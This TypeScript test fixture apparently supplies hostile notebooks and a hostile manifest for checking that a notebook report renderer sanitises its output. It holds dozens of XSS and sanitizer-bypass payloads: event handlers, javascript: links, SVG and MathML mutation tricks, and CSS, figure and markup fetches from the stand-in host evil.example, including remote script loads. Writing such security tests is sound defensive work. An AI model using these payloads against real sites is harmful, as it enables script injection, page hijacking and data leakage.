// Notebooks of a stranger who wants a report's reader to run script or to reach a server. Each
// payload, were it to work, sets `window.ran`, opens a dialog, or asks for something at evil.example.

import type { Cell, Notebook, Output } from "../../../lib/runtime/notebook.ts";
import { code, display, markdown, notebookOf, PNG, stream } from "./sample.ts";

const RUN = "window.ran=1";
const HOST = "https://evil.example";

function html(text: string): Output {
  return display({ "text/html": text, "text/plain": "x" });
}

function figure(data: unknown[], layout: Record<string, unknown> = {}): Output {
  return display({
    "application/vnd.plotly.v1+json": {
      data,
      layout,
      config: { editable: true, plotlyServerURL: HOST },
    },
    "text/plain": "figure",
  });
}

const SCATTER = { x: [1, 2], y: [1, 2] };

function withMetadata(metadata: Record<string, unknown>): Notebook {
  const notebook = notebookOf(markdown("Text"));
  return { ...notebook, metadata: { ...notebook.metadata, ...metadata } };
}

const outputs: Record<string, Output[]> = {
  "script in HTML": [html(`<script>${RUN}</script><script src="${HOST}/a.js"></script>`)],
  "event handlers": [
    html(
      `<img src=x onerror="${RUN}"><body onload="${RUN}"><details ontoggle="${RUN}" open>x</details>`,
    ),
  ],
  "javascript links in HTML": [
    html(
      `<a href="javascript:${RUN}">a</a><a href="  java\tscript\n:${RUN}">b</a><a href="&#x6A;avascript:${RUN}">c</a>`,
    ),
  ],
  "frames": [
    html(
      `<iframe src="${HOST}"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><object data="${HOST}"></object><embed src="${HOST}">`,
    ),
  ],
  "meta refresh and base": [
    html(
      `<meta http-equiv="refresh" content="0;url=${HOST}"><base href="${HOST}/"><img src="a.png">`,
    ),
  ],
  "links to style sheets": [
    html(
      `<link rel=stylesheet href="${HOST}/a.css"><link rel=preload as=image href="${HOST}/a.png"><link rel=dns-prefetch href="${HOST}">`,
    ),
  ],
  "style sheet that fetches": [
    html(
      `<style>@import "${HOST}/a.css"; @font-face{font-family:x;src:url(${HOST}/f.woff)} p{font-family:x;background:url(${HOST}/b.png)}</style><p>x</p>`,
    ),
  ],
  "style sheet with escapes": [
    html(
      String
        .raw`<style>p{background:\75\72\6c(${HOST}/b.png);background:u\rl(${HOST}/c.png);background-image:image-set("${HOST}/d.png" 1x)}</style><p>x</p>`,
    ),
  ],
  "style attribute that fetches": [
    html(
      `<p style="background:url('${HOST}/b.png')">x</p><div style="list-style-image:url(${HOST}/a.png)">x</div><p style="cursor:url(${HOST}/c.cur),auto">x</p>`,
    ),
  ],
  "style sheet that breaks out": [
    html(
      `<style></style ><script>${RUN}</script></style><style>a{}<!--</style><img src=x onerror="${RUN}">--></style>`,
    ),
  ],
  "style that covers the page": [
    html(
      `<style>body,.nb-page{display:none!important} main{visibility:hidden!important}</style><div style="position:fixed;inset:0;z-index:9;background:red">Log in</div>`,
    ),
  ],
  "svg script": [
    html(
      `<svg><script>${RUN}</script><script href="${HOST}/a.js"/><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
    ),
  ],
  "svg links and images": [
    html(
      `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a><image href="${HOST}/a.png"/><use href="${HOST}/a.svg#x"/><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
    ),
  ],
  "svg animated link": [
    html(
      `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=9>x</text></a><set attributeName=onload to="${RUN}"/></svg>`,
    ),
  ],
  "svg foreignObject": [
    html(
      `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.${RUN}"/><img src=x onerror="${RUN}"></foreignObject></svg>`,
    ),
  ],
  "svg style mutation": [
    html(
      `<svg><style><img src=x onerror="${RUN}"></style></svg><svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
    ),
  ],
  "svg filter and paint that fetch": [
    html(
      `<svg><rect width=9 height=9 fill="url(${HOST}/a.svg#g)" filter="url(${HOST}/f.svg#f)" style="mask:url(${HOST}/m.svg)"/><feImage href="${HOST}/i.png"/></svg>`,
    ),
  ],
  "mathml mutation": [
    html(
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    ),
    html(
      `<math><annotation-xml encoding="text/html"><script>${RUN}</script><img src=x onerror=${RUN}></annotation-xml><maction actiontype="statusline#x" xlink:href="javascript:${RUN}">x</maction></math>`,
    ),
  ],
  "noscript and template": [
    html(
      `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template>`,
    ),
  ],
  "raw text elements": [
    html(
      `<xmp><script>${RUN}</script></xmp><textarea></textarea/><img src=x onerror=${RUN}></textarea><plaintext><img src=x onerror=${RUN}>`,
    ),
  ],
  "forms": [
    html(
      `<form action="${HOST}" id=f><input name=q autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">Go</button></form><button form=f>x</button>`,
    ),
  ],
  "media": [
    html(
      `<video src="${HOST}/v.mp4" autoplay poster="${HOST}/p.png" onerror="${RUN}"></video><audio src="${HOST}/a.mp3" autoplay></audio><picture><source srcset="${HOST}/s.png"><img srcset="${HOST}/t.png 2x" src="${HOST}/u.png"></picture><track src="${HOST}">`,
    ),
  ],
  "old attributes": [
    html(
      `<table background="${HOST}/t.png"><tr><td background="${HOST}/c.png">x</td></tr></table><body background="${HOST}/b.png"><img dynsrc="${HOST}/d.avi" lowsrc="${HOST}/l.png">`,
    ),
  ],
  "attributes that break out": [
    html(
      `<p title='"><img src=x onerror=${RUN}>'>x</p><p class="x&quot; onmouseover=&quot;${RUN}">y</p><p id="&quot;><script>${RUN}</script>">z</p>`,
    ),
  ],
  "names that shadow": [
    html(
      `<img name="getElementById" id="nb-theme"><a id="nb-notebook" name="body">H4sI</a><p class="nb-chart nb-figure-data">{"data":[]}</p>`,
    ),
  ],
  "deep nesting": [html("<div>".repeat(30_000) + `<img src=x onerror=${RUN}>`)],
  "broken markup": [
    html(
      `<<img src=x onerror=${RUN}>><a <b onclick=${RUN}><!--><img src=x onerror=${RUN}>--><![CDATA[<img src=x onerror=${RUN}>]]><?php <img src=x onerror=${RUN}>`,
    ),
  ],
  "script MIME types": [
    display({ "application/javascript": RUN, "text/plain": "x" }),
    display({ "text/javascript": RUN }),
    display({
      "application/vnd.jupyter.widget-view+json": { model_id: `"><script>${RUN}</script>` },
    }),
    display({ [`<script>${RUN}</script>`]: "x" }),
  ],
  "svg MIME type": [
    display({
      "image/svg+xml":
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${HOST}/a.png"/><style>@import "${HOST}/a.css";</style></svg>`,
    }),
  ],
  "image MIME types": [
    display({ "image/png": `" onerror="${RUN}` }),
    display({ "image/png": PNG, "text/plain": `"><img src=x onerror="${RUN}">` }),
    {
      ...display({ "image/png": PNG }),
      metadata: { "image/png": { width: `1" onload="${RUN}`, alt: `" onload="${RUN}` } },
    } as Output,
  ],
  "LaTeX": [
    display({
      "text/latex":
        `$\\href{javascript:${RUN}}{x}\\includegraphics{${HOST}/a.png}\\htmlData{onclick=${RUN}}{y}$`,
    }),
    display({ "text/latex": "$" + "{".repeat(5000) }),
    display({ "text/latex": "$\\def\\a{\\a\\a}\\a$" }),
  ],
  "JSON": [display({ "application/json": { "</script><script>": `<img src=x onerror=${RUN}>` } })],
  "Markdown in an output": [
    display({
      "text/markdown": `<img src=x onerror=${RUN}> [x](javascript:${RUN}) ![y](${HOST}/y.png)`,
    }),
  ],
  "plain text": [
    display({ "text/plain": `<img src=x onerror=${RUN}></pre><script>${RUN}</script>` }),
  ],
  "streams": [
    stream(
      `</pre><script>${RUN}</script>\u001b]8;;javascript:${RUN}\u0007click\u001b]8;;\u0007\u001b]8;;${HOST}\u001b\\x\u001b]8;;\u001b\\`,
    ),
    stream(
      `\u001b[31m<img src=x onerror=${RUN}>\u001b[38;2;1;1;1"onload=${RUN}m\u0000\u001b[`,
      "stderr",
    ),
    stream("x", `"><script>${RUN}</script>`),
  ],
  "tracebacks": [{
    output_type: "error",
    ename: `<script>${RUN}</script>`,
    evalue: `<img src=x onerror=${RUN}>`,
    traceback: [`\u001b[31m<img src=x onerror=${RUN}>`, `</pre><svg onload=${RUN}>`],
  }],
  "figure with links": [
    figure([{
      ...SCATTER,
      name: `<a href="javascript:${RUN}">n</a>`,
      text: [`<a href="${HOST}">t</a>`, "b"],
      mode: "text+lines",
    }], {
      title: {
        text:
          `<a href="javascript:${RUN}" target="_self">Title</a><<a href=x>a href="${HOST}">y</a>`,
      },
      annotations: [{ text: `<a href="javascript:${RUN}">here</a>`, x: 1, y: 1 }, {
        text: "<a ",
        x: 1,
        y: 2,
      }],
      xaxis: { title: { text: `<a href="data:text/html,<script>${RUN}</script>">x</a>` } },
    }),
  ],
  "figure with images": [
    figure([{
      ...SCATTER,
      marker: { pattern: { shape: `url(${HOST}/p.png)` }, color: `url(${HOST}/c.png)` },
    }, { type: "image", source: `${HOST}/s.png` }], {
      images: [{ source: `${HOST}/a.png`, x: 0, y: 1, sizex: 1, sizey: 1 }, {
        source: `data:image/svg+xml,<svg onload="${RUN}"/>`,
      }],
      font: { family: `x;background:url(${HOST}/f.png)` },
    }),
  ],
  "figure with markup in labels": [
    figure([{
      ...SCATTER,
      name: `<img src=x onerror=${RUN}><script>${RUN}</script>`,
      hovertemplate: `<svg onload=${RUN}>%{x}`,
    }], {
      title: `</script><script>${RUN}</script><style>*{background:url(${HOST}/x.png)}</style>`,
      showlegend: true,
      legend: { title: { text: `<span style="background:url(${HOST}/l.png)">l</span>` } },
    }),
  ],
  "figure with menus and prototypes": [
    figure([SCATTER], {
      updatemenus: [{
        buttons: [{
          method: "relayout",
          label: "x",
          args: [{ "images[0].source": `${HOST}/m.png` }],
        }],
      }],
      modebar: { add: ["sendDataToCloud"] },
      ...JSON.parse(`{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`),
    }),
  ],
  "values that are not figures": [
    display({
      "application/vnd.plotly.v1+json": `</script><script>${RUN}</script>`,
      "text/plain": "x",
    }),
    figure([{ type: "choropleth", geojson: `${HOST}/g.json` }], {
      mapbox: { style: `${HOST}/m.json` },
    }),
    figure([null, 1, [[]]], { xaxis: null, title: { text: { deep: 1 } } }),
    figure([{ x: "x", y: { y: 1 }, type: "bar", marker: "red" }], {
      annotations: 3,
      shapes: [null],
      height: 1e12,
    }),
  ],
};

const cells: Record<string, Cell[]> = {
  "Markdown HTML": [
    markdown(
      `<script>${RUN}</script>\n\n<img src=x onerror="${RUN}">\n\n<svg onload=${RUN}></svg>\n\n<iframe src="${HOST}"></iframe>`,
    ),
  ],
  "Markdown links and images": [
    markdown(
      `[a](javascript:${RUN}) [b](JaVaScRiPt:${RUN}) [c](vbscript:x) [d](data:text/html,<script>${RUN}</script>) <javascript:${RUN}>\n\n![e](${HOST}/e.png) ![f](//evil.example/f.png) ![g](\\\\evil.example\\g.png)\n\n[h]: javascript:${RUN}\n[h]`,
    ),
  ],
  "Markdown headings, fences and maths": [
    markdown(
      `# <img src=x onerror=${RUN}> [x](javascript:${RUN})\n\n## </a><script>${RUN}</script>\n\n## a\n\n\`\`\`"><script>${RUN}</script>\n</code><script>${RUN}</script>\n\`\`\`\n\n$$\\text{</annotation><script>${RUN}</script>}$$ $\\url{javascript:${RUN}}$`,
    ),
  ],
  "Markdown attachments": [
    markdown("![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:__proto__)", {
      attachments: {
        "a.svg": {
          "image/svg+xml":
            `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="${HOST}/a.png"/></svg>`,
        },
        "b.png": { "image/png": `x" onerror="${RUN}`, "text/html": `<script>${RUN}</script>` },
      },
    } as Partial<Cell>),
  ],
  "raw cells": [
    {
      cell_type: "raw",
      id: "r",
      metadata: { raw_mimetype: "text/html" },
      source: `<script>${RUN}</script><img src=${HOST}/r.png onerror=${RUN}>`,
    },
    { cell_type: "raw", id: "s", metadata: {}, source: `</pre><script>${RUN}</script>` },
  ],
  "code and ids": [
    code(`</code></pre><script>${RUN}</script>// \${"<!--<script>"}`, [], {
      id: `"><script>${RUN}</script>`,
      metadata: { tags: [`"><script>${RUN}</script>`, "parameters"] },
    } as Partial<Cell>),
    code("x", [], { execution_count: `<script>${RUN}</script>` as never }),
  ],
};

/** Hostile notebooks by what they try. */
export const hostileNotebooks: Record<string, Notebook> = {
  ...Object.fromEntries(
    Object.entries(outputs).map((
      [name, list],
    ) => [name, notebookOf(markdown("# Title"), code("x", list))]),
  ),
  ...Object.fromEntries(Object.entries(cells).map(([name, list]) => [name, notebookOf(...list)])),
  "metadata": withMetadata({
    title: `</title><script>${RUN}</script>`,
    language: `en"><script>${RUN}</script>`,
    kernelspec: {
      name: "x",
      display_name: `<script>${RUN}</script>`,
      language: `"><script>${RUN}</script>`,
    },
    language_info: { name: `__proto__"><img src=x onerror=${RUN}>` },
  }),
};

/** A manifest in which every text is hostile. */
export const hostileManifest = {
  tunebook: `<script>${RUN}</script>`,
  deno: `<img src=x onerror=${RUN}>`,
  v8: `</dd><script>${RUN}</script>`,
  typescript: `</script><script>${RUN}</script>`,
  os: `<svg onload=${RUN}>`,
  cores: `<b onclick=${RUN}>` as unknown as number,
  startedAt: `"><script>${RUN}</script>`,
  notebook: { name: `"><script>${RUN}</script>.ipynb`, sha256: `<!--<script>` },
  parameters: { [`<img src=x onerror=${RUN}>`]: `</script><script>${RUN}</script>` },
  provenance: [{
    kind: `<script>${RUN}</script>`,
    [`<svg onload=${RUN}>`]: `<img src=${HOST}/p.png>`,
  }],
  cells: [{ id: `"><script>${RUN}</script>`, executionCount: 1, seconds: NaN }],
};
